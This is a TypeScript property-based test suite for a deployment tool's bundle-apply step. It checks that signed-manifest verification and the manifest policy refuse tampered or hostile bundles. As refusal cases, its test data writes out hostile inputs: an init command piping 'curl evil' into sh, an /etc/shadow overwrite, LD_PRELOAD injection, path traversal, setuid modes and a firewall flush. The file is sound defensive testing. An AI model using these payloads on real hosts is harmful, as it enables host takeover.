/**
 * Issue 12 item 6 and "Signed bundles", below the CLI: apply believes a bundle only when its
 * manifest is signed by a CA the host pins, and even then refuses what no rendered bundle asks
 * for (a destination outside the allow-list, setuid or world-writable modes, foreign owners,
 * unknown daemons or init commands). Nothing is written on the host for any refusal.
 * Property-based (fast-check): random and mutated manifests and signatures only ever give an
 * InputError with messages, never another error.
 */
import { createPrivateKey, X509Certificate } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundle, runApply } from '../src/apply/index.js';
import { hostTrust, trustPinFile, updatePin } from '../src/apply/trust.js';
import type { BundleManifestInput } from '../src/bundle/manifest.js';
import { SIGNATURE_FILE, signManifest } from '../src/bundle/signature.js';
import { InputError } from '../src/errors.js';
import { hostPaths, hostRenderedPaths } from '../src/paths.js';
import { fixtureSigner, fixtureTrust, fixtureTrusted, FixtureRunner, oneBoxManifest, RecordedServices, signBundle, writeBundle } from './helpers/apply-fixture.js';

let tmp: string;
let n = 0;
beforeAll(() => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'bundle-verify-'));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const fresh = () => {
  n += 1;
  return { root: path.join(tmp, `root${n}`), bundle: path.join(tmp, `bundle${n}`) };
};
const walk = (dir: string): string[] => {
  try {
    return readdirSync(dir, { recursive: true }).map(String);
  } catch {
    return [];
  }
};

/** Another CA (the real openssl), as an attacker with their own PKI would sign with. */
function otherCa(): { key: ReturnType<typeof createPrivateKey>; certPem: string } {
  const pem = execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-subj', '/CN=evil', '-days', '2', '-addext', 'basicConstraints=critical,CA:TRUE', '-keyout', '-', '-out', '-'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  return {
    key: createPrivateKey(/-----BEGIN PRIVATE KEY-----[^-]+-----END PRIVATE KEY-----/.exec(pem)?.[0] ?? ''),
    certPem: `${/-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----/.exec(pem)?.[0] ?? ''}\n`,
  };
}

async function refusal(p: Promise<unknown>): Promise<InputError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(InputError);
  return err as InputError;
}

const apply = (c: { root: string; bundle: string }, more: Partial<Parameters<typeof runApply>[0]> = {}) =>
  runApply({ trustCa: fixtureTrust(), bundleDir: c.bundle, root: c.root, runner: new FixtureRunner(), services: new RecordedServices(), skipPackages: true, healthTimeoutMs: 1_000, ...more });

describe('apply checks the signature first', () => {
  it('a manifest changed after it was signed: exit 2 naming manifest.sig, nothing on the host', async () => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(c.bundle, manifest, files, c.root);
    const file = path.join(c.bundle, 'manifest.json');
    writeFileSync(file, readFileSync(file, 'utf8').replace('"/etc/ovn-deploy/pki/crl.pem"', '"/etc/shadow"'));
    const err = await refusal(apply(c));
    expect(err.exitCode).toBe(2);
    expect(err.problems).toEqual([{ file: path.join(c.bundle, SIGNATURE_FILE), path: 'signature', message: 'does not match manifest.json: the manifest was changed after render, or signed by another key' }]);
    expect(walk(c.root)).toEqual([]);
  });

  it('an unsigned bundle, and one signed by a CA the host does not trust', async () => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(c.bundle, manifest, files, c.root);
    rmSync(path.join(c.bundle, SIGNATURE_FILE));
    expect((await refusal(apply(c))).problems[0]?.message).toMatch(/cannot read the manifest signature .*: no such file/);
    signBundle(c.bundle, otherCa());
    expect((await refusal(apply(c))).problems[0]).toMatchObject({ path: 'signer', message: expect.stringMatching(/which this host does not trust$/) as unknown });
    expect(walk(c.root)).toEqual([]);
  });

  it('a fresh host without --trust-ca trusts nothing; a pinned host refuses another CA given with --trust-ca', async () => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(c.bundle, manifest, files, c.root);
    const none = await refusal(apply(c, { trustCa: undefined }));
    expect(none.problems[0]).toMatchObject({ path: '--trust-ca', message: expect.stringMatching(/^this host trusts no CA yet/) as unknown });
    const paths = hostPaths(c.root);
    await updatePin(paths, new X509Certificate(fixtureSigner().certPem), '');
    const other = otherCa();
    const wrong = await refusal(apply(c, { trustCa: { pem: other.certPem, from: 'other.pem' } }));
    expect(wrong.problems[0]).toMatchObject({ file: 'other.pem', path: '--trust-ca', message: expect.stringMatching(/already trusts another CA/) as unknown });
    // The pin decides: the bundle verifies without --trust-ca.
    expect((await hostTrust(paths, undefined)).certs.map((x) => x.fingerprint256)).toEqual([new X509Certificate(fixtureSigner().certPem).fingerprint256]);
  });

  it('the pin follows a CA rollover: the CAs of the verified bundle plus its signer', async () => {
    const c = fresh();
    const paths = hostPaths(c.root);
    const signer = new X509Certificate(fixtureSigner().certPem);
    const next = otherCa();
    await updatePin(paths, signer, next.certPem);
    const pinned = (await hostTrust(paths, undefined)).certs.map((x) => x.fingerprint256);
    expect(pinned).toEqual([new X509Certificate(next.certPem).fingerprint256, signer.fingerprint256]);
    expect(readFileSync(trustPinFile(paths), 'utf8')).toMatch(/^-----BEGIN CERTIFICATE-----/);
  });

  it('a file added to files/ that the manifest does not list', async () => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(c.bundle, manifest, files, c.root);
    writeBundle(path.join(c.bundle, 'files', 'etc', 'cron.d'), manifest, []);
    const err = await refusal(readBundle(c.bundle, fixtureTrusted()));
    expect(err.problems.map((p) => `${path.relative(c.bundle, p.file ?? '')}: ${p.message}`)).toEqual([
      'files/etc/cron.d/manifest.json: is in the bundle but not in its manifest (added after render?)',
      'files/etc/cron.d/manifest.sig: is in the bundle but not in its manifest (added after render?)',
    ]);
  });
});

describe('a signed manifest is still held to what a bundle may ask', () => {
  const cases: [string, (m: Omit<BundleManifestInput, 'files'>, f: ReturnType<typeof oneBoxManifest>['files']) => void, string, RegExp][] = [
    ['a file at /etc/shadow', (_m, f) => void f.push({ dest: '/etc/shadow', content: 'root::0:0:::::\n' }), 'files[4].dest', /"\/etc\/shadow" is outside what a bundle may write/],
    ['a file over a binary', (_m, f) => void f.push({ dest: '/usr/bin/ovn-nbctl', content: '#!/bin/sh\n' }), 'files[4].dest', /outside what a bundle may write/],
    ['the host key placed by the bundle', (_m, f) => void f.push({ dest: '/etc/ovn-deploy/pki/host.key', content: 'k\n' }), 'files[4].dest', /outside what a bundle may write/],
    ['a unit that is not ours', (_m, f) => void f.push({ dest: '/etc/systemd/system/sshd.service', content: '[Service]\n' }), 'files[4].dest', /outside/],
    ['a path with ..', (_m, f) => void f.push({ dest: '/etc/ovn-deploy/../shadow', content: 'x\n' }), 'files[4].dest', /outside|normalised/],
    ['mode 04755', (_m, f) => void ((f[2] as { mode?: number }).mode = 0o4755), 'files[2].mode', /04755 sets setuid, setgid or sticky bits/],
    ['mode 02755', (_m, f) => void ((f[2] as { mode?: number }).mode = 0o2755), 'files[2].mode', /setgid/],
    ['mode 0666', (_m, f) => void ((f[2] as { mode?: number }).mode = 0o666), 'files[2].mode', /0666 is world-writable/],
    ['an init command outside the known set', (m) => void (m.initCommands = [['/bin/sh', '-c', 'curl evil | sh']]), 'initCommands[0]', /not a known init command/],
    ['a daemon that is not ours', (m) => void ((m.services[0] as { argv: string[] }).argv = ['/bin/sh', '-c', 'id']), 'services[0].argv[0]', /"\/bin\/sh" is not one of the daemons/],
    ['LD_PRELOAD for a daemon', (m) => void ((m.services[0] as { env: Record<string, string> }).env = { LD_PRELOAD: '/tmp/x.so' }), 'services[0].env.LD_PRELOAD', /not an environment variable/],
    // The own supervisor polls it before the start: a path anywhere else would let a bundle probe the host.
    ['a daemon waiting on a socket outside the run dirs', (m) => void ((m.services[0] as { waitFor: string[] }).waitFor = ['/run/systemd/private']), 'services[0].waitFor[0]', /expected a socket under .*openvswitch\/ or .*ovn\/, got "\/run\/systemd\/private"/],
    // Health checks only ask `version` or `status`; still, only the host's daemons' control sockets.
    ['a health check asking a socket outside the run dirs', (m) => void m.health.push({ kind: 'unixctl', service: 'ovn-northd', ctl: '/run/systemd/private', command: 'version' }), 'health[2].ctl', /expected a control socket under .*openvswitch\/ or .*ovn\/, got "\/run\/systemd\/private"/],
    ['the key written elsewhere', (m) => void ((m.certificate as { key: string }).key = '/root/.ssh/id_ed25519'), 'certificate.key', /expected \/etc\/ovn-deploy\/pki\/host.key/],
    ['a database file elsewhere', (m) => void ((m.standaloneDbs as { dbFile: string }[])[0]!.dbFile = '/etc/passwd'), 'standaloneDbs[0].dbFile', /expected a file under/],
    // apply loads these two with `nft -f` (the firewall without --firewall on a native central):
    // only ovn-deploy's own tables, accept-policy chains and port rules.
    ['a firewall file that flushes the host\'s ruleset', (_m, f) => void f.push({ dest: hostRenderedPaths().firewall, content: 'flush ruleset\n' }), 'files[4]', /line 1 is not a rule ovn-deploy writes.*"flush ruleset"/],
    ['a local-access file that writes another table', (_m, f) => void f.push({ dest: hostRenderedPaths().localAccess, content: 'table ip filter {\n}\n' }), 'files[4]', /line 1 is not a rule ovn-deploy writes.*"table ip filter \{"/],
    ['a firewall chain that drops all input', (_m, f) => void f.push({ dest: hostRenderedPaths().firewall, content: 'table inet ovn_deploy {\n\tchain input {\n\t\ttype filter hook input priority filter; policy drop;\n\t}\n}\n' }), 'files[4]', /line 3 is not a rule/],
    ['a firewall file that includes another', (_m, f) => void f.push({ dest: hostRenderedPaths().firewall, content: 'include "/tmp/evil.nft"\n' }), 'files[4]', /line 1 is not a rule/],
  ];

  it.each(cases.map(([name, edit, at, message]) => ({ name, edit, at, message })))('$name: exit 2 at $at (the field named), nothing on the host', async ({ edit, at, message }) => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    edit(manifest, files);
    writeBundle(c.bundle, manifest, files, c.root);
    const err = await refusal(apply(c));
    expect(err.exitCode).toBe(2);
    const p = err.problems.find((x) => x.path === at);
    expect(p?.message).toMatch(message);
    expect(walk(c.root)).toEqual([]);
  });

  it('an owner other than root and the service users', async () => {
    const c = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(c.bundle, manifest, files, c.root);
    const file = path.join(c.bundle, 'manifest.json');
    const m = JSON.parse(readFileSync(file, 'utf8')) as { files: { owner: string; group: string }[] };
    m.files[0]!.owner = 'nobody';
    m.files[1]!.group = 'users';
    writeFileSync(file, JSON.stringify(m));
    signBundle(c.bundle);
    const err = await refusal(apply(c));
    expect(err.problems.map((p) => `${p.path}: ${p.message}`)).toEqual(['files[0].owner: "nobody" is neither root nor a service user', 'files[1].group: "users" is neither root nor a service group']);
    expect(walk(c.root)).toEqual([]);
  });
});

describe('property: random and mutated bundles only ever give InputError with messages', () => {
  let base: { root: string; bundle: string };
  let good: Buffer;
  beforeAll(() => {
    base = fresh();
    const { manifest, files } = oneBoxManifest();
    writeBundle(base.bundle, manifest, files, base.root);
    good = readFileSync(path.join(base.bundle, 'manifest.json'));
  });

  /** Writes manifest bytes (signed, so the checks behind the signature run too, unless `sig` is given). */
  const check = async (bytes: Buffer, sig?: string): Promise<void> => {
    const file = path.join(base.bundle, 'manifest.json');
    writeFileSync(file, bytes);
    const s = fixtureSigner();
    writeFileSync(path.join(base.bundle, SIGNATURE_FILE), sig ?? signManifest(bytes, s.key, s.certPem));
    try {
      await readBundle(base.bundle, fixtureTrusted());
    } catch (err) {
      expect(err).toBeInstanceOf(InputError);
      const problems = (err as InputError).problems;
      expect(problems.length).toBeGreaterThan(0);
      for (const p of problems) expect(p.message.length).toBeGreaterThan(0);
      expect((err as InputError).exitCode).toBe(2);
    }
  };

  it('byte mutations of a signed manifest (re-signed)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 }), fc.constantFrom('set', 'insert', 'delete')), { minLength: 1, maxLength: 8 }), async (edits) => {
        const bytes = [...good];
        for (const [pos, value, op] of edits) {
          const i = pos % (bytes.length + 1);
          if (op === 'set') bytes[i % bytes.length] = value;
          else if (op === 'insert') bytes.splice(i, 0, value);
          else bytes.splice(i % bytes.length, 1);
        }
        await check(Buffer.from(bytes));
      }),
      { numRuns: 150 },
    );
  }, 60_000);

  it('any JSON value at a random place of the manifest (re-signed)', async () => {
    const doc = JSON.parse(good.toString('utf8')) as Record<string, unknown>;
    const keys = Object.keys(doc);
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...keys), fc.jsonValue(), fc.option(fc.nat({ max: 20 })), async (key, value, index) => {
        const copy = structuredClone(doc);
        const target = copy[key];
        if (index !== null && Array.isArray(target) && target.length > 0) target[index % target.length] = value;
        else copy[key] = value;
        await check(Buffer.from(JSON.stringify(copy)));
      }),
      { numRuns: 150 },
    );
  }, 60_000);

  it('random signature files', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string(), fc.jsonValue().map((v) => JSON.stringify(v)), fc.record({ format: fc.constant(1), algorithm: fc.constant('sha256'), signer: fc.stringMatching(/^[0-9a-f]{64}$/), signature: fc.base64String() }).map((v) => JSON.stringify(v))), async (sig) => {
        await check(good, sig);
      }),
      { numRuns: 150 },
    );
  }, 60_000);
});
